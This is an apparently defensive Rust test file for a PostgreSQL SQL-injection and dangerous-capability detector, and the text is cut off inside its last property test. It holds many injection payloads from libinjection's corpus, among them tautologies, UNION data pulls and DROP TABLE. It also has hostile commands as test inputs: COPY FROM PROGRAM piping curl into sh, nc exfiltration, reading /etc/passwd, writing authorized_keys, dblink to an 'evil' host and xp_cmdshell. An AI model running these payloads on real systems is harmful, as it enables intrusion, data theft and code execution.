//! The SQL injection and dangerous-capability detectors: each rule on its
//! canonical examples and its look-alikes, the role and protocol gates, a
//! sample of libinjection's payloads and false positives spliced into
//! vulnerable templates, and properties over arbitrary input.

#![allow(clippy::unwrap_used)]

use proptest::prelude::*;
use vigil_detect::sqli::{Context, Finding, Inspector, Kind, Rule, inspect, inspect_tokens};
use vigil_sql::Redactor;

const APP: Context = Context {
    simple_query: true,
    application_role: true,
    standard_conforming_strings: true,
};

const ADMIN: Context = Context {
    application_role: false,
    ..APP
};

/// The findings of `sql`, checked to be the same when the inspector reads
/// the tokens a redactor lexed.
fn findings(sql: &str, cx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    inspect(sql, cx, &mut out);
    let mut redactor = Redactor::new();
    redactor.set_standard_conforming_strings(cx.standard_conforming_strings);
    let redacted = redactor.redact(sql);
    let mut lexed = Vec::new();
    inspect_tokens(sql, redactor.tokens(), redacted.error, cx, &mut lexed);
    assert_eq!(lexed, out, "from the redactor's tokens: {sql:?}");
    out
}

fn rules(sql: &str, cx: &Context) -> Vec<Rule> {
    findings(sql, cx).iter().map(|f| f.rule).collect()
}

#[track_caller]
fn fires(rule: Rule, cx: &Context, sqls: &[&str]) {
    for sql in sqls {
        let got = rules(sql, cx);
        assert!(
            got.contains(&rule),
            "{} should fire on {sql:?}; got {got:?}",
            rule.as_str()
        );
    }
}

#[track_caller]
fn quiet(cx: &Context, sqls: &[&str]) {
    for sql in sqls {
        let got = rules(sql, cx);
        assert!(
            got.is_empty(),
            "nothing should fire on {sql:?}; got {got:?}"
        );
    }
}

#[test]
fn tautology() {
    fires(
        Rule::Tautology,
        &APP,
        &[
            "SELECT * FROM users WHERE name = '' OR '1'='1'",
            "SELECT * FROM users WHERE id = 5 OR 1=1",
            "SELECT * FROM users WHERE id = 5 or 1 = 1 -- x",
            "SELECT * FROM users WHERE id = 5 OR 2 > 1",
            "SELECT * FROM users WHERE name = 'a' OR 'a' <> 'b'",
            "SELECT * FROM users WHERE id = 5 OR (1=1)",
            "SELECT * FROM users WHERE id = 5 OR ((1) = (1))",
            "SELECT * FROM users WHERE id = 5 OR TRUE",
            "SELECT * FROM users WHERE name = 'x' OR '1'",
            "SELECT * FROM users WHERE name = 'x' OR 't'",
            "SELECT * FROM users WHERE name = 'x' OR name = name",
            "SELECT * FROM users WHERE id = 5 OR pi() = pi()",
            "SELECT * FROM users WHERE id = 5 OR NOT 1 = 2",
            "SELECT * FROM users WHERE id = 5 OR -1 != '0'",
            "SELECT * FROM users WHERE name = '' or 1=1 or ''",
            "SELECT * FROM users WHERE name = 'x' OR 'a' LIKE '%'",
            "INSERT INTO comments (body, author_id) VALUES ('' OR 1=1 --', 42)",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT * FROM users WHERE a = 1 OR b = 2",
            "SELECT \"u\".\"id\" FROM \"u\" WHERE (\"u\".\"active\" AND (\"u\".\"email\" = 'a@b.c' OR \"u\".\"name\" = 'O''Brien'))",
            "SELECT * FROM tags WHERE (1 = 0 OR owner_id = 5)",
            "SELECT * FROM items WHERE ('' = '' OR name = '') AND (NULL IS NULL OR category_id = NULL)",
            "SELECT * FROM tickets WHERE a = 1 OR b IS NULL OR c >= 3",
            "SELECT * FROM t WHERE a = 1 OR 1 = 0",
            "SELECT * FROM t WHERE a = 1 OR FALSE",
            "SELECT * FROM t WHERE a = 1 OR 'f'",
            // A bare number is no boolean to PostgreSQL: `OR 1960` fails.
            "SELECT * FROM t WHERE id = 1950 or 1960",
            "SELECT * FROM t WHERE a = $1 OR $1 IS NULL",
        ],
    );
}

#[test]
fn constant_condition() {
    fires(
        Rule::ConstantCondition,
        &APP,
        &[
            "SELECT * FROM users WHERE id = 1 AND 8=3",
            "SELECT * FROM users WHERE name = 'x' AND 'a'='a'",
            "SELECT * FROM users WHERE id = 1 AND 4512=4512",
            "SELECT * FROM users WHERE id = 1 AND pi() = pi()",
            "SELECT * FROM users WHERE id = 1 AND COS(PI()) = -1",
            "SELECT * FROM users WHERE id = 1 AND 1 NOT LIKE 0",
            "SELECT * FROM users WHERE id = 1 OR 8 = 3",
            "SELECT * FROM users WHERE id = 1 AND 1+2+3 = 6",
            "SELECT * FROM users WHERE id = 1 AND current_user = 'postgres'",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT * FROM products WHERE 1=1 AND category_id = 3 AND name LIKE 'a%'",
            "SELECT * FROM tags WHERE tags.id IN (NULL) AND (1 != 1)",
            "SELECT * FROM tags WHERE owner = 1 AND 1=0",
            "SELECT id, CASE WHEN 'en' = 'en' THEN title_en ELSE title_fr END FROM posts",
            "SELECT * FROM t WHERE a = 1 AND price BETWEEN 1 AND 5",
            "SELECT * FROM t WHERE a = 1 AND created_at > now() - interval '1 day'",
            "SELECT * FROM t WHERE a = 1 AND random() < 0.5",
            "SELECT * FROM t WHERE a = 1 AND $1 = 'x'",
            "SELECT * FROM t WHERE a = 1 AND (0 = 1 OR owner_id = 7)",
            "SELECT * FROM t WHERE 'x' = 'y' AND a = 1",
        ],
    );
}

#[test]
fn chained_comparison() {
    fires(
        Rule::ChainedComparison,
        &APP,
        &[
            "SELECT * FROM users WHERE name = 'aa' = '1'",
            "SELECT * FROM users WHERE name = 'aa' LIKE '0'",
            "SELECT * FROM users WHERE name = 'X' - 'Y' - 0 = '1'",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT * FROM t WHERE a = 'x' AND b = 'y'",
            "SELECT * FROM t WHERE flag = (name LIKE 'x%')",
            "SELECT a = b AS same, c < d FROM t",
            // Benign text in a numeric slot: comparisons, but no string
            // closed early.
            "SELECT * FROM t WHERE id = I < 3 < 3",
            "SELECT * FROM t WHERE id = 1 I like having true friends",
        ],
    );
}

#[test]
fn union_padding_and_mismatch() {
    fires(
        Rule::UnionPadding,
        &APP,
        &[
            "SELECT id, name FROM users WHERE id = 1 UNION SELECT NULL, NULL",
            "SELECT id, name, email, phone FROM users WHERE id = 1 UNION ALL SELECT 1, 2, 3, password FROM admins",
            "SELECT id, name FROM users WHERE id = -1 UNION ALL SELECT 'R3DM0V3', NULL::text--",
            "SELECT id, name FROM users WHERE id = 1 UNION (SELECT 1, 2)",
        ],
    );
    fires(
        Rule::UnionColumnMismatch,
        &APP,
        &[
            "SELECT id, name, email FROM users WHERE id = 1 UNION SELECT password FROM users",
            "SELECT id, name FROM users WHERE id = 1 union (select id from users limit 1)",
            "(SELECT a, b FROM t) UNION (SELECT c FROM u)",
        ],
    );
    quiet(
        &APP,
        &[
            "WITH recent AS (SELECT id, user_id FROM orders UNION ALL SELECT id, user_id FROM refunds) SELECT * FROM recent",
            "WITH RECURSIVE tree AS (SELECT id, 0 AS depth FROM c WHERE id = 1 UNION ALL SELECT c.id, t.depth + 1 FROM c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree",
            "SELECT id, 'order' AS kind FROM orders WHERE user_id = 1 UNION ALL SELECT id, 'refund' FROM refunds WHERE user_id = 1",
            "SELECT id, name, NULL::int AS extra, 1 AS clazz_ FROM cat UNION ALL SELECT id, name, extra, 2 AS clazz_ FROM dog",
            "SELECT 1 UNION SELECT 2 UNION SELECT 3",
            "SELECT NULL::int AS parent_id, id, name FROM nodes WHERE id = 1",
            "SELECT a, b FROM t UNION SELECT * FROM u",
            "SELECT DISTINCT ON (a) a, b FROM t UNION SELECT c, d FROM u",
            "SELECT a, ARRAY[1, 2], sum(x) OVER (PARTITION BY a, b) FROM t UNION ALL SELECT a, ARRAY[3], 0 FROM u",
            "SELECT a FROM t WHERE x = (SELECT max(y) FROM z) UNION SELECT b FROM u",
        ],
    );
}

#[test]
fn foreign_syntax() {
    fires(
        Rule::ForeignSyntax,
        &APP,
        &[
            "SELECT * FROM users WHERE id = (select id from users limit 1,1)",
            "SELECT TOP 10 name FROM users",
            "SELECT * FROM users WHERE id = 1 /*!50000UNION*/ SELECT 1",
            "SELECT * FROM users WHERE id = 1 OR 1=@@version",
            "SELECT * FROM `users`",
            "SELECT * FROM users WHERE name = '' INTO OUTFILE '/var/www/x.php'",
            "SELECT load_file('/etc/passwd')",
            "EXEC xp_cmdshell 'dir'",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT * FROM t LIMIT 10 OFFSET 5",
            "SELECT * FROM docs WHERE tsv @@ to_tsquery('english', 'cat')",
            "SELECT * FROM docs WHERE tsv@@q",
            "SELECT /*+ SeqScan(t) */ * FROM t",
            "SELECT top FROM t",
        ],
    );
}

#[test]
fn stacked_queries() {
    fires(
        Rule::StackedQueries,
        &APP,
        &[
            "SELECT * FROM users WHERE id = 1; DROP TABLE users",
            "SELECT * FROM users WHERE name = ''; DROP TABLE users; --'",
            "SELECT * FROM users WHERE name = ''; SELECT pg_sleep(5); --'",
            "SELECT * FROM users WHERE id = 1; update users set password = 99",
        ],
    );
    // Only an application role's simple Query, and only when the rest
    // parses: statements that start with a PostgreSQL verb.
    quiet(
        &ADMIN,
        &["SELECT * FROM users WHERE id = 1; DROP TABLE users"],
    );
    let parse = Context {
        simple_query: false,
        ..APP
    };
    assert!(!rules("SELECT 1; DROP TABLE users", &parse).contains(&Rule::StackedQueries));
    quiet(
        &APP,
        &[
            "BEGIN; UPDATE accounts SET balance = balance - 5 WHERE id = 1; UPDATE accounts SET balance = balance + 5 WHERE id = 2; COMMIT;",
            "INSERT INTO audit (note) VALUES ('a'); INSERT INTO audit (note) VALUES ('b');",
            "SET LOCAL statement_timeout = '5s'; SELECT id FROM jobs LIMIT 10",
            "SELECT * FROM t WHERE id = 60;S MOD DRESSES",
            "SELECT * FROM t WHERE id = 1; exec will create the case 7",
            "SELECT * FROM t WHERE id = ;ON",
        ],
    );
}

#[test]
fn comment_after_literal() {
    fires(
        Rule::CommentAfterLiteral,
        &APP,
        &[
            "SELECT * FROM users WHERE name = 'admin'--'",
            "SELECT * FROM users WHERE id = 1 -- ",
            "SELECT * FROM users WHERE id = (1) --",
            "SELECT * FROM users WHERE id = 1/**/UNION SELECT 1",
            "SELECT * FROM users WHERE id = 1 /**/ or 1=1",
            "SELECT * FROM users WHERE name = 'x'#''",
            // sqlmap's UNION fetches end in NULL and a comment.
            "SELECT name FROM items WHERE id = 1 UNION ALL SELECT (chr(113)||chr(49)),NULL-- dgHo",
            "SELECT * FROM users WHERE active = true --",
        ],
    );
    // For any role: glued to the literal, or swallowing a quote.
    fires(
        Rule::CommentAfterLiteral,
        &ADMIN,
        &[
            "SELECT * FROM users WHERE name = 'admin'--'",
            "SELECT * FROM users WHERE name = '' -- '",
        ],
    );
    quiet(
        &APP,
        &[
            "-- list users\nSELECT * FROM users",
            "SELECT id, 1 -- one\n FROM t",
            "SELECT * FROM t WHERE status = 'a' -- active only\nAND id > 5",
            "SELECT * FROM t WHERE id = 5 /*controller='users',traceparent='00-ab-cd-01'*/",
            "SELECT * FROM t WHERE note = '-- not a comment' AND x = '/**/'",
            "SELECT B'101' # B'011'",
            "UPDATE t SET x = NULL -- reset\nWHERE id = 1",
        ],
    );
    quiet(
        &ADMIN,
        &[
            "SELECT * FROM t WHERE id = 5 -- check",
            "UPDATE t SET x = NULL -- reset",
        ],
    );
}

#[test]
fn time_function() {
    fires(
        Rule::TimeFunction,
        &APP,
        &[
            "SELECT pg_sleep(5)",
            "SELECT * FROM t WHERE id = 1 AND pg_sleep_for('5 seconds') IS NULL",
            "SELECT pg_sleep_until(now() + interval '5 s')",
            "SELECT * FROM t WHERE id = 1; WAITFOR DELAY '0:0:5'--",
            "SELECT * FROM t WHERE id = 1 AND SLEEP(5)",
            "SELECT * FROM t WHERE id = 1 AND BENCHMARK(1000000, MD5(1))",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT sleep, benchmark FROM settings",
            "SELECT * FROM t WHERE note = 'pg_sleep(1)'",
        ],
    );
}

#[test]
fn error_cast() {
    fires(
        Rule::ErrorCast,
        &APP,
        &[
            "SELECT * FROM t WHERE id = 1 AND 1 = CAST(version() AS int)",
            "SELECT * FROM t WHERE id = 1 AND current_user::int = 1",
            "SELECT * FROM t WHERE id = 1 AND 5 = CAST(CHR(113)||(SELECT password FROM users LIMIT 1)||CHR(113) AS NUMERIC)",
            "SELECT * FROM t WHERE id = 1 AND (SELECT 'x' || (SELECT usename FROM pg_user LIMIT 1))::int = 1",
            "SELECT * FROM t WHERE id = 1 AND extractvalue(1, concat(0x7e, version()))",
            "SELECT * FROM t WHERE id = 1 AND 1 = convert(int, @@version)",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT count(*)::int, CAST(sum(total) AS bigint), extract(epoch from max(ts))::bigint FROM orders",
            "SELECT CAST(price AS int), CAST($1 AS int), NULL::int, '42'::int FROM t",
            "SELECT * FROM docs WHERE owner_id = current_setting('app.user_id')::int",
            "SELECT version::int FROM releases",
            "SELECT (SELECT count(*) FROM t)::int",
        ],
    );
}

#[test]
fn catalog_read() {
    fires(
        Rule::CatalogRead,
        &APP,
        &[
            "SELECT table_name FROM information_schema.tables",
            "SELECT usename, passwd FROM pg_shadow",
            "SELECT c.relname FROM pg_catalog.pg_class c",
            "SELECT * FROM \"pg_authid\"",
            "SELECT * FROM users WHERE id = -1 UNION SELECT table_name FROM information_schema.columns",
        ],
    );
    quiet(
        &ADMIN,
        &[
            "SELECT table_name FROM information_schema.tables",
            "SELECT * FROM pg_stat_activity",
        ],
    );
    quiet(
        &APP,
        &[
            "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid WHERE typname = 'hstore'",
            "SELECT pg_catalog.set_config('search_path', '', false)",
            "select pg_catalog.version()",
            "SELECT pg_class FROM t",
            "SELECT * FROM \"PG_SHADOW\"",
        ],
    );
}

#[test]
fn capabilities() {
    fires(
        Rule::CopyProgram,
        &ADMIN,
        &[
            "COPY t FROM PROGRAM 'curl http://x | sh'",
            "COPY (SELECT * FROM users) TO PROGRAM 'nc x 1'",
        ],
    );
    fires(
        Rule::FileAccess,
        &ADMIN,
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_read_binary_file('/etc/passwd')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT lo_import('/etc/passwd')",
            "COPY t FROM '/etc/passwd'",
            "COPY t TO '/tmp/out.csv' WITH (FORMAT csv)",
            "CREATE EXTENSION file_fdw",
        ],
    );
    fires(
        Rule::LargeObjectExport,
        &ADMIN,
        &["SELECT lo_export(16404, '/var/lib/postgresql/.ssh/authorized_keys')"],
    );
    fires(
        Rule::Dblink,
        &ADMIN,
        &[
            "SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(a int)",
            "SELECT dblink_exec('host=evil', 'DROP TABLE t')",
            "CREATE EXTENSION dblink",
            "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
        ],
    );
    fires(
        Rule::AlterSystem,
        &ADMIN,
        &["ALTER SYSTEM SET archive_command = 'curl x'"],
    );
    fires(
        Rule::UntrustedLanguage,
        &ADMIN,
        &[
            "CREATE FUNCTION f() RETURNS int AS $$import os$$ LANGUAGE plpython3u",
            "DO $$system('id')$$ LANGUAGE plperlu",
            "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE 'plpython3u'",
            "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT",
            "CREATE EXTENSION plpython3u",
            "CREATE LANGUAGE plperlu",
        ],
    );
    fires(
        Rule::ShellCommand,
        &ADMIN,
        &["EXEC master..xp_cmdshell 'dir'"],
    );
    quiet(
        &ADMIN,
        &[
            "COPY t FROM STDIN",
            "COPY t TO STDOUT WITH (FORMAT csv, HEADER true)",
            "COPY (SELECT a FROM t WHERE b = 'x') TO STDOUT",
            "SELECT program, system FROM settings",
            "SELECT lo_get(16404), lo_put(16404, 0, '\\x00')",
            "ALTER TABLE t ADD COLUMN system text",
            "CREATE FUNCTION f() RETURNS int AS $$SELECT 1$$ LANGUAGE sql",
            "DO $$BEGIN PERFORM 1; END$$ LANGUAGE plpgsql",
            "CREATE EXTENSION pg_trgm",
        ],
    );
    for sql in [
        "COPY t FROM PROGRAM 'id'",
        "SELECT pg_read_file('/etc/passwd')",
    ] {
        assert!(
            findings(sql, &APP)
                .iter()
                .all(|f| f.kind == Kind::Capability)
        );
    }
}

#[test]
fn role_change_by_application_roles_only() {
    let sqls = [
        "GRANT ALL ON users TO app",
        "REVOKE SELECT ON users FROM app",
        "CREATE ROLE x SUPERUSER LOGIN PASSWORD 'secret'",
        "ALTER USER app WITH SUPERUSER",
        "DROP GROUP admins",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app",
        "GRANT pg_execute_server_program TO app",
    ];
    fires(Rule::RoleChange, &APP, &sqls);
    quiet(&ADMIN, &sqls);
    quiet(
        &APP,
        &["CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'x')"],
    );
}

#[test]
fn lexer_errors_drop_injection_findings_but_not_capabilities() {
    // A quote in benign text breaks a vulnerable template; PostgreSQL
    // rejects the query string, and nothing ran.
    quiet(
        &APP,
        &[
            "SELECT * FROM users WHERE name = 'Y'ALL COME BACK NOW'",
            "SELECT * FROM users WHERE name = 'DANCIN' LIKE A ROBOT ON FIRE'",
            "SELECT * FROM users WHERE name = '' OR 1=1 '",
        ],
    );
    assert_eq!(
        rules(
            "SELECT pg_read_file('/etc/passwd') WHERE x = 'a' OR 1=1 '",
            &APP
        ),
        [Rule::FileAccess]
    );
}

#[test]
fn standard_conforming_strings_off() {
    // With it off, `\'` escapes the quote: the whole input is one string.
    let sql = "SELECT * FROM users WHERE name = 'x\\' OR 1=1 --'";
    let off = Context {
        standard_conforming_strings: false,
        ..APP
    };
    assert!(rules(sql, &off).is_empty());
    assert!(rules(sql, &APP).contains(&Rule::Tautology));
}

#[test]
fn one_finding_per_rule_sorted_by_offset() {
    let sql = "SELECT * FROM t WHERE id = 1 OR 1=1 OR 2=2; SELECT pg_sleep(1); SELECT pg_sleep(2); DROP TABLE t --";
    let out = findings(sql, &APP);
    let mut seen: Vec<Rule> = out.iter().map(|f| f.rule).collect();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), out.len(), "{out:?}");
    assert!(
        out.windows(2).all(|w| w[0].offset <= w[1].offset),
        "{out:?}"
    );
    let taut = out.iter().find(|f| f.rule == Rule::Tautology).unwrap();
    assert_eq!(sql.get(taut.offset..taut.offset + 3), Some("1=1"));
    assert!(out.iter().all(|f| f.kind == f.rule.kind()));
}

#[test]
fn findings_hold_no_literal() {
    let secret = "hunter2-s3cr3t";
    let sqls = [
        format!("SELECT * FROM users WHERE name = '{secret}' OR '{secret}'='{secret}' --'"),
        format!("SELECT pg_read_file('/home/{secret}')"),
        format!("COPY t TO PROGRAM 'curl https://{secret}.example'"),
        format!("SELECT * FROM t WHERE id = 1; DROP TABLE t; -- {secret}"),
        format!("SELECT id, name FROM u WHERE id = 1 UNION SELECT '{secret}', NULL"),
    ];
    for sql in &sqls {
        let out = findings(sql, &APP);
        assert!(!out.is_empty(), "{sql}");
        let shown = format!("{out:?}");
        assert!(!shown.contains(secret), "{shown}");
        for f in &out {
            assert!(!f.rule.as_str().contains(secret));
            assert!(sql.is_char_boundary(f.offset));
        }
    }
}

#[test]
fn names_kinds_and_events() {
    let mut names: Vec<&str> = Rule::ALL.iter().map(|r| r.as_str()).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), Rule::ALL.len());
    for &rule in Rule::ALL {
        assert_eq!(Rule::from_name(rule.as_str()), Some(rule));
        assert_eq!(Rule::from_name(&rule.as_str().to_uppercase()), Some(rule));
    }
    assert_eq!(Rule::from_name("nope"), None);
    assert_eq!(Rule::Tautology.as_str(), "tautology");
    assert_eq!(Rule::UnionPadding.as_str(), "union_padding");
    assert_eq!(Rule::CopyProgram.kind(), Kind::Capability);
    assert_eq!(Rule::CatalogRead.kind(), Kind::CatalogRead);
    assert_eq!(Kind::Injection.event().code(), 3100);
    assert_eq!(Kind::Capability.event().code(), 3103);
    assert_eq!(Kind::CatalogRead.event().code(), 3111);
    assert_eq!(Kind::Injection.event().name(), "anomaly.sql_injection");
}

#[test]
fn inspector_reuse_matches_inspect() {
    let sqls = [
        "SELECT * FROM users WHERE name = '' OR '1'='1' --'",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 48213",
        "COPY t FROM PROGRAM 'id'",
        "",
        "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1=1",
    ];
    let mut inspector = Inspector::new();
    for sql in sqls {
        let mut a = Vec::new();
        inspector.inspect(sql, &APP, &mut a);
        assert_eq!(a, findings(sql, &APP), "{sql}");
    }
    // Appends, never clears.
    let mut out = vec![Finding {
        rule: Rule::Dblink,
        kind: Kind::Capability,
        offset: 0,
    }];
    inspect("SELECT pg_sleep(1)", &APP, &mut out);
    assert_eq!(out.len(), 2);
}

#[test]
fn tools_and_drivers_raise_no_injection() {
    let sqls = [
        // psql's \d
        "SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;",
        // Rails' column query
        "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = '\"users\"'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
        // pgjdbc
        "SELECT typinput='pg_catalog.array_in'::regproc as is_array, typtype, typname, pg_type.oid FROM pg_catalog.pg_type LEFT JOIN (select ns.oid as nspoid, ns.nspname, r.r from pg_namespace as ns join ( select s.r, (current_schemas(false))[s.r] as nspname from generate_series(1, array_upper(current_schemas(false), 1)) as s(r) ) as r using ( nspname ) ) as sp ON sp.nspoid = typnamespace WHERE pg_type.oid = 1043 ORDER BY sp.r, pg_type.oid DESC",
        // Django
        "SELECT \"django_migrations\".\"id\", \"django_migrations\".\"app\" FROM \"django_migrations\"",
        "SET TIME ZONE 'UTC'; SELECT 1",
        // pg_dump
        "SET statement_timeout = 0; SET lock_timeout = 0; SET idle_in_transaction_session_timeout = 0; SET client_encoding = 'UTF8'; SET standard_conforming_strings = on; SELECT pg_catalog.set_config('search_path', '', false);",
        "BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY",
        // A function body
        "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE BEGIN ATOMIC; SELECT a + b; END",
    ];
    for sql in sqls {
        let got: Vec<Rule> = findings(sql, &APP)
            .iter()
            .filter(|f| f.kind == Kind::Injection)
            .map(|f| f.rule)
            .collect();
        assert!(got.is_empty(), "{sql:?} raised {got:?}");
    }
}

#[test]
fn pathological_inputs_stay_linear() {
    let n = 5_000;
    let cases = [
        format!("SELECT {}1=1{}", "(".repeat(n), ")".repeat(n)),
        format!("SELECT * FROM t WHERE a = 1 OR {}1=1", "(".repeat(n)),
        format!("SELECT {}1{}", "CAST(".repeat(n), " AS int)".repeat(n)),
        format!("SELECT {}", "CAST(".repeat(n)),
        format!("SELECT {}1{}", "(".repeat(n), ")::int".repeat(n)),
        format!("SELECT * FROM t WHERE a = 'x'{}", " = 'x'".repeat(n)),
        format!("SELECT 1{}", " UNION SELECT 1, 2".repeat(n)),
        format!(
            "SELECT * FROM t WHERE a = 1{}",
            " OR 1 = 1 AND 2 = 2".repeat(n)
        ),
        format!("SELECT 1{}", "; SELECT 1".repeat(n)),
        format!("SELECT {}", "CASE WHEN 1=1 THEN ".repeat(n)),
    ];
    let start = std::time::Instant::now();
    for sql in &cases {
        let _ = findings(sql, &APP);
    }
    // Generous, for unoptimised builds on a busy machine: quadratic work
    // here would take minutes.
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

// ---------------------------------------------------------------------------
// libinjection's corpus: a sample, decoded, spliced as a vulnerable
// application splices user input. (The whole corpus and its figures:
// bench/detect.)

const TEMPLATES: [(&str, &str); 5] = [
    ("SELECT id, name, email FROM users WHERE name = '", "'"),
    ("SELECT id, name, email FROM users WHERE id = ", ""),
    ("SELECT id, title, price FROM products ORDER BY ", ""),
    ("INSERT INTO comments (body, author_id) VALUES ('", "', 42)"),
    ("SELECT id, title FROM products WHERE title LIKE '%", "%'"),
];

const PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "admin'--",
    "' or 1=1 or '",
    "5000224' or 1=1--",
    "8 and 1=1--",
    "6444930 and 6=6",
    "6444930' and '6'='6",
    "materials' and 1=1 and ''='",
    "-9-(2) OR 1 = 1",
    "HOPE AND 8=3",
    "foo' and (1+2+3+4+5+6)=(7*3)--",
    " ( 1 OR 1 )  --",
    " ( (SELECT 'a' OR 'b') )  --",
    "-999.9 UNION ALL SELECT 'R3DM0V3_HVJ_INJECTION',NULL--",
    "1 union (select id from users limit 1,1)",
    "-1 union select table_name from information_schema.tables",
    "1001 union(select userid, ccnumber, '3', '4' from credit_cards)",
    "1/**/uNiOn/**/sELeCt/**/1,2,3,4/**/fRoM/**/jos_users--",
    "123);DROP TABLE users--",
    "'; DROP table Users --",
    "FOO)); SELECT PG_SLEEP(5);--",
    "SO_BUY; IF (1=1) WAITFOR DELAY '00:00:01'--",
    "6334588 AND BENCHMARK(2999999,MD5(NOW()))",
    "1'=sleep(1)='1",
    "aa' LIKE 0 -- -a",
    "aa'or column=column -- #aa",
    "1 AND 1=0 UNION SELECT table_name FROM information_schema.tables limit 1",
    "0/**/union/*!50000select*/table_name`foo`/**/",
    "1#PTTmJopxdWJ\nAND#cWfcVRPV\n9227=9227",
    "189'/**/or/**/1=@@version)------snip----",
];

const BENIGN: &[&str] = &[
    "24-7-TEAM",
    "TRUE#LAST",
    "Y'ALL COME BACK NOW",
    "DANCIN' LIKE A ROBOT ON FIRE",
    "1950 or 1960",
    "60;S MOD DRESSES",
    "1; exec will create the case 7",
    "I <3 <3",
    "1 I like having true friends",
    "BLAH <A HREF=\"FOO.HTML\">FOO</A>",
    "/SEARCH?Q=15\"+LAPTOP+CASE&PAGE=6",
    "EWELRY; __UTMC=111461200; __UTMB=111461200.37.10.13431224",
    "SCRAPBOOK PAPER PACK (8.5X11\"-300 DPI) --",
    "zzh7W_krs4jSNwVV2TssQsSbOj--",
    "1234`",
    "x/*",
    "Please select pair #1",
    "ALL@MKSAT.NET",
    "WOMEN';S ART DEC",
    " 0=[]'",
    "SET WITH ENVELOPES",
    "BY ORDER OF THE MANAGEMENT",
    "13 IS A LUCKY NUMBER",
];

#[test]
fn corpus_sample_is_detected() {
    for p in PAYLOADS {
        let hit = TEMPLATES.iter().any(|(before, after)| {
            findings(&format!("{before}{p}{after}"), &APP)
                .iter()
                .any(|f| f.kind == Kind::Injection)
        });
        assert!(hit, "no template raised an injection finding for {p:?}");
    }
}

#[test]
fn false_positive_sample_raises_nothing() {
    for p in BENIGN {
        for (before, after) in TEMPLATES {
            let sql = format!("{before}{p}{after}");
            let got = rules(&sql, &APP);
            assert!(got.is_empty(), "{sql:?} raised {got:?}");
        }
    }
}

// ---------------------------------------------------------------------------
// Properties

const FRAGMENTS: &[&str] = &[
    "SELECT",
    "FROM",
    "WHERE",
    "UNION",
    "ALL",
    "OR",
    "AND",
    "NOT",
    "CASE",
    "WHEN",
    "THEN",
    "END",
    "CAST",
    "AS",
    "int",
    "::",
    "(",
    ")",
    "((",
    ",",
    ";",
    "=",
    "<>",
    "LIKE",
    "BETWEEN",
    "IN",
    "'a'",
    "''",
    "'1'",
    "1",
    "0",
    "2",
    "NULL",
    "TRUE",
    "$1",
    "\"q\"",
    "x",
    "t",
    "--",
    "/*",
    "*/",
    "/**/",
    "#",
    "@@version",
    "`",
    "LIMIT",
    "COPY",
    "PROGRAM",
    "pg_sleep",
    "version()",
    "||",
    "chr(",
    "BEGIN",
    "ATOMIC",
    "E'\\''",
    "$$",
    "$t$",
    "-",
    "*",
    "information_schema",
    ".",
    "pg_shadow",
    "LANGUAGE",
    "c",
    "GRANT",
    "CREATE",
    "ROLE",
    "\n",
    "TOP",
    "INTO",
    "OUTFILE",
];

proptest! {
    #[test]
    fn never_panics_on_arbitrary_text(s in "\\PC{0,200}", app: bool, simple: bool, scs: bool) {
        let cx = Context { simple_query: simple, application_role: app, standard_conforming_strings: scs };
        for f in findings(&s, &cx) {
            prop_assert!(s.is_char_boundary(f.offset));
            prop_assert!(f.offset <= s.len());
            prop_assert_eq!(f.kind, f.rule.kind());
        }
    }

    #[test]
    fn never_panics_on_sql_fragments(
        parts in proptest::collection::vec(proptest::sample::select(FRAGMENTS), 0..60),
        glue in proptest::collection::vec(proptest::bool::ANY, 60),
        app: bool,
    ) {
        let mut sql = String::new();
        for (i, p) in parts.iter().enumerate() {
            if glue.get(i).copied().unwrap_or(false) {
                sql.push(' ');
            }
            sql.push_str(p);
        }
        let cx = Context { application_role: app, ..APP };
        let out = findings(&sql, &cx);
        let mut rules: Vec<Rule> = out.iter().map(|f| f.rule).collect();
        rules.dedup();
        prop_assert_eq!(rules.len(), out.len());
        for f in &out {
            prop_assert!(sql.is_char_boundary(f.offset));
        }
    }

    #[test]
    fn literal_values_change_nothing_in_escaped_templates(s in "\\PC{0,40}") {
        // A safe application escapes: the value stays one literal, and no
        // value can make a finding appear.
        let escaped = s.replace('\'', "''");
        let sql = format!("SELECT id FROM users WHERE name = '{escaped}' AND id = 5");
